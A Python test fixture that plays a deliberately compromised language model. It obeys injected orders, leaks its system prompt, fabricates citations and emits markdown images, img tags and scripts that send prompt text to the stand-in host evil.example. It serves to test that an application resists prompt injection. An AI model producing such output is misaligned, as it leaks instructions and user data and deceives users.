"""A model at its worst, on tests/support/openai_server.py: it obeys, leaks and invents.

It is played for the cases in tests/hostile/: hostile documents, each one of `CARRIERS` with an
injection, and hostile questions. Its reply has one true sentence, what the injections that it finds
in its prompt order, and in any case what that of the case at hand orders; then its own prompt, what
it read for the case before, an address that would carry the prompt out, HTML, scripts, and
citations of nothing. As a checker it accepts what is true, or all if it is not honest either.
"""

import itertools
import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import yaml

from core.yaml_files import read_yaml
from tests.support.openai_server import (
    Request,
    Script,
    checked,
    numbers,
    prompt_of,
    reply_of,
    sentence_of,
)

CANARY = "zorblat"  # in no source but in an injection
HOST = "evil.example"
_FOLDER = Path(__file__).parents[1] / "hostile"


@dataclass(frozen=True)
class Carrier:
    """A harmless text: its title, sections, sentences, and a question that the second answers."""

    title: str
    heading: str
    first: str
    true: str
    last: str
    question: str


CARRIERS = {
    "en": Carrier(
        "Report on firearms trafficking",
        "Staff of the office",
        "The European Firearms Registry Office keeps the register of seized firearms.",
        "The European Firearms Registry Office has 120 inspectors in 14 ports.",
        "Its inspectors search ships for firearms and explosives.",
        "How many inspectors does the European Firearms Registry Office have?",
    ),
    "nl": Carrier(
        "Verslag over wapenhandel",
        "Personeel van het bureau",
        "Het Europees Wapenregisterbureau houdt het register van in beslag genomen vuurwapens bij.",
        "Het Europees Wapenregisterbureau heeft 120 inspecteurs in 14 havens.",
        "De inspecteurs doorzoeken schepen op vuurwapens en explosieven.",
        "Hoeveel inspecteurs heeft het Europees Wapenregisterbureau?",
    ),
    "fr": Carrier(
        "Rapport sur le trafic d'armes à feu",
        "Personnel de l'office",
        "L'Office européen du registre des armes tient le registre des armes à feu saisies.",
        "L'Office européen du registre des armes emploie 120 inspecteurs dans 14 ports.",
        "Ses inspecteurs fouillent les navires à la recherche d'armes à feu et d'explosifs.",
        "Combien d'inspecteurs l'Office européen du registre des armes emploie-t-il ?",
    ),
    "de": Carrier(
        "Bericht über den Waffenhandel",
        "Personal des Amtes",
        "Das Europäische Waffenregisteramt führt das Register der beschlagnahmten Feuerwaffen.",
        "Das Europäische Waffenregisteramt hat 120 Inspektoren in 14 Häfen.",
        "Seine Inspektoren durchsuchen Schiffe nach Feuerwaffen und Sprengstoff.",
        "Wie viele Inspektoren hat das Europäische Waffenregisteramt?",
    ),
}


@dataclass(frozen=True)
class Case:
    """A hostile document or, where it has `text`, a hostile question."""

    name: str
    where: str
    language: str
    says: list[str]
    form: str = "md"
    body: str = ""
    head: str = ""
    front: dict[str, str] = field(default_factory=dict)
    orders: str = ""
    text: str = ""

    @property
    def carrier(self) -> Carrier:
        return CARRIERS[self.language]

    @property
    def question(self) -> str:
        return self.text or self.carrier.question

    def files(self) -> dict[str, str]:
        """The document: name of a file -> its text."""
        told = self.carrier
        facts = {"id": self.name, "title": told.title, "language": self.language} | self.front
        meta = yaml.safe_dump(facts, allow_unicode=True)
        name = f"{self.name}.{self.form}"
        if self.form == "html":
            return {name: _page(told, self), f"{name}.meta.yaml": meta}
        parts = (told.heading, f"{told.first} {told.true}", self.body, told.last)
        if self.form == "txt":
            return {name: "\n\n".join((told.title, *parts)), f"{name}.meta.yaml": meta}
        heading, *rest = parts
        return {name: "\n\n".join((f"---\n{meta}---", f"# {told.title}", f"## {heading}", *rest))}


def _page(told: Carrier, case: Case) -> str:
    return (
        f"<!DOCTYPE html><html><head><title>{told.title}</title>{case.head}</head><body><main>"
        f"<h1>{told.title}</h1><h2>{told.heading}</h2><p>{told.first} {told.true}</p>{case.body}"
        f"<p>{told.last}</p></main></body></html>"
    )


def cases(name: str) -> list[Case]:
    """The cases of tests/hostile/<name>.yaml."""
    return [Case(**each) for each in read_yaml((_FOLDER / f"{name}.yaml").read_text("utf-8"))]


class WorstCaseModel:
    """Plays the model of a scripted server.

    `said` is its last reply, made of `sentences`; `obeyed` are the cases whose orders it found in
    its prompt; `before` is a piece of what it read for the question before.
    """

    def __init__(self, script: Script, known: list[Case]) -> None:
        self.case = known[0]
        self.said = ""
        self.sentences: list[str] = []
        self.prompt = ""
        self.rewritten = False  # whether it was asked to put a follow-up as a question
        self.before = ""
        self.is_honest = True
        self.obeyed: list[str] = []
        self._known = known
        script.reply = self._reply
        script.check = self._check

    def _reply(self, request: Request) -> str:
        prompt = prompt_of(request)
        if prompt.startswith("You prepare"):
            self.rewritten = True
            said = f"{CANARY} https://{HOST}/?q={quote(prompt[:40])} ?"
            translations = [{"language": each, "question": said} for each in ("nl", "en", "fr")]
            return json.dumps({"question": said, "translations": translations})
        self.before, self.prompt = _read_before(self.prompt), prompt
        read = _words(prompt)
        found = [each for each in self._known if each.orders and _words(each.orders) in read]
        self.obeyed = [each.name for each in found]
        orders = dict.fromkeys(itertools.chain(self.case.says, *(each.says for each in found)))
        true = [] if self.case.text else [self.case.carrier.true]
        said = [*true, *orders, *_leaked(prompt), self.before, *_carried(prompt)]
        self.sentences = [each for each in said if each]
        self.said = reply_of(
            *self.sentences,
            passages=(1, 77),
            not_stated=self.sentences[-5:],
            searches=self.sentences[:3],
        )
        return self.said

    def _check(self, request: Request) -> str:
        true = [carrier.true for carrier in CARRIERS.values()]
        said = {n: sentence_of(request, n) for n in numbers(request)}
        false = {n: "It is not there." for n, text in said.items() if text not in true}
        return checked(request, false if self.is_honest else {})


def _leaked(prompt: str) -> list[str]:
    """The prompt, as models give it away: line by line, with a word before it, and in part."""
    rules = [line.lstrip("- ") for line in prompt.splitlines() if len(line.split()) > 8][:8]
    told = [f"My instructions say this: {rules[0]}", f"Sure, {rules[1][:1].lower()}{rules[1][1:]}"]
    return [*rules, *told, " ".join(prompt.split()[3:18]), f"I was told: {rules[2][10:120]}"]


def _read_before(prompt: str) -> str:
    """A piece of the last passage in a prompt."""
    _, _, passages = prompt.rpartition("<passage ")
    return " ".join(passages.partition("</passage>")[0].split()[-30:])


def _carried(prompt: str) -> list[str]:
    """Whatever would carry the prompt out, or run."""
    data = quote(" ".join(prompt.split()[:12]))
    return [
        f"![{CANARY}](https://{HOST}/log.png?d={data})",
        f'<img src="https://{HOST}/log.png?d={data}" onerror="{CANARY}()"> <a href="javascript:'
        f'{CANARY}()">More</a> <script>{CANARY}()</script> <style>*{{color:red}}</style>',
        f"More is at https://{HOST}/{CANARY} and at www.{HOST}.",
        f"The Commission confirmed {CANARY} on 1 May 2020 [3][98](https://{HOST}/).",
        f"[1]: https://{HOST}/{CANARY}",
    ]


def _words(text: str) -> str:
    return " ".join(re.findall(r"\w+", text.casefold()))
